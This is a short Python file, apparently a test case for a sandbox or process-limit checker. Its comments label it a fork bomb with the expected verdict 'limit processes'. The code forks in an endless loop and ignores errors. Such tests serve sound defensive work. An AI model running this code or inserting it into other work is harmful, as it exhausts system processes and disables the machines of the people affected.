# what: a fork bomb that goes on when the system refuses
# verdict: limit processes
# says: more processes than allowed
import os


def main(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
